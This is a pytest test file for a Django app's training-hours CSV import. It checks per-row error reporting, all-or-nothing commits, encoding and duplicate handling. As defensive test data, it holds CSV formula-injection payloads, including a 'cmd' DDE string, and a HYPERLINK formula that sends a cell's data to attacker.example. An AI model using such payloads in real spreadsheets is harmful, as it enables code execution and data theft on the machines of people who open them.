"""Hours CSV imports: every bad file or row is reported with row, column and reason, and nothing is half-imported."""

from __future__ import annotations

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from xblocks.certification import imports, models

pytestmark = [pytest.mark.django_db, pytest.mark.mariadb]

HEADER = "username,cohort,source,category,minutes,date,note\n"
GOOD = "amina_a,cloud-a,school,cloud,90,2026-02-01,lab day\n"
GOOD_2 = "yanis_a,cloud-a,company,security,120,2026-02-02,\n"


def _count():
    return models.HoursEntry.objects.count()


@pytest.mark.parametrize(
    ("bad_row", "column", "reason"),
    [
        ("amina_a,cloud-a,school,cloud,-30,2026-02-01,\n", "minutes", "Minutes must be positive"),
        ("amina_a,cloud-a,school,cloud,ninety,2026-02-01,\n", "minutes", "whole number"),
        ("amina_a,cloud-a,school,cloud,2000,2026-02-01,\n", "minutes", "More than 24 hours"),
        ("nobody,cloud-a,school,cloud,60,2026-02-01,\n", "username", "Unknown learner"),
        ("lina_b,cloud-a,school,cloud,60,2026-02-01,\n", "username", "not enrolled"),
        ("amina_a,cloud-b,school,cloud,60,2026-02-01,\n", "cohort", "Unknown cohort"),  # the other school's
        ("amina_a,cloud-a,pub,cloud,60,2026-02-01,\n", "source", "Source must be"),
        ("amina_a,cloud-a,school,cloud,60,01/02/2026,\n", "date", "YYYY-MM-DD"),
        ("amina_a,cloud-a,school,cloud,60,2999-01-01,\n", "date", "future"),
        ("=cmd|'/c calc'!A1,cloud-a,school,cloud,60,2026-02-01,\n", "username", "formula"),
        ("amina_a,cloud-a,school,@SUM(1+1),60,2026-02-01,\n", "category", "formula"),
        ("amina_a,cloud-a,school,\t=1+1,60,2026-02-01,\n", "category", "formula"),
        (GOOD, "", "Duplicate of row 2"),
    ],
)
def test_a_bad_row_is_reported_and_rejects_the_whole_file_in_commit_mode(cert_world, bad_row, column, reason):
    raw = HEADER + GOOD + GOOD_2 + bad_row
    before = _count()
    dry = imports.import_hours_csv(cert_world.coordinator_a, raw, dry_run=True)
    assert {p.row for p in dry.problems} == {4}  # only the bad row
    assert any(p.column == column and reason in p.reason for p in dry.problems), dry.problems
    committed = imports.import_hours_csv(cert_world.coordinator_a, raw, dry_run=False)
    assert committed.imported == 0 and committed.problems == dry.problems
    assert _count() == before
    skipping = imports.import_hours_csv(cert_world.coordinator_a, raw, dry_run=False, skip_invalid=True)
    assert skipping.imported == 2
    assert _count() == before + 2


def test_a_file_that_is_not_utf8_is_refused_whole(cert_world):
    raw = (HEADER + "amina_a,cloud-a,school,café,60,2026-02-01,\n").encode("latin-1")
    report = imports.import_hours_csv(cert_world.coordinator_a, raw, dry_run=False, skip_invalid=True)
    assert report.imported == 0
    assert "not UTF-8" in report.problems[0].reason
    assert _count() == 0


def test_missing_columns_are_named(cert_world):
    report = imports.import_hours_csv(cert_world.coordinator_a, "name,cohort,minutes\nx,cloud-a,5\n", dry_run=True)
    assert {(p.row, p.column) for p in report.problems} == {(1, "username"), (1, "source"), (1, "date")}


def test_a_utf8_bom_and_email_identify_learners_and_notes_are_kept_literally(cert_world):
    payload = '=HYPERLINK("http://attacker.example/?d="&A1,"x")'
    raw = (
        "\ufeffemail,cohort,source,minutes,date,note\n"
        + f'AMINA_A@example.com,cloud-a,school,45,2026-02-01,"{payload.replace(chr(34), chr(34) * 2)}"\n'
    )
    report = imports.import_hours_csv(cert_world.coordinator_a, raw.encode("utf-8"), dry_run=False)
    assert report.ok and report.imported == 1
    entry = models.HoursEntry.objects.get()
    assert (entry.user, entry.minutes, entry.note) == (cert_world.learner("amina_a"), 45, payload)


def test_a_row_already_recorded_is_not_imported_twice(cert_world):
    assert imports.import_hours_csv(cert_world.coordinator_a, HEADER + GOOD, dry_run=False).imported == 1
    again = imports.import_hours_csv(cert_world.coordinator_a, HEADER + GOOD, dry_run=False)
    assert again.imported == 0
    assert "already recorded" in again.problems[0].reason
    assert _count() == 1


def test_the_import_command_is_a_dry_run_unless_told(cert_world, tmp_path, capsys):
    path = tmp_path / "hours.csv"
    path.write_text(HEADER + GOOD + "amina_a,cloud-a,school,cloud,-5,2026-02-01,\n", encoding="utf-8")
    with pytest.raises(CommandError):
        call_command("kafaat_import_hours", str(path), "--as", "coord_a")
    assert "row 3 minutes" in capsys.readouterr().out
    assert _count() == 0
    call_command("kafaat_import_hours", str(path), "--as", "coord_a", "--commit", "--skip-invalid")
    assert _count() == 1
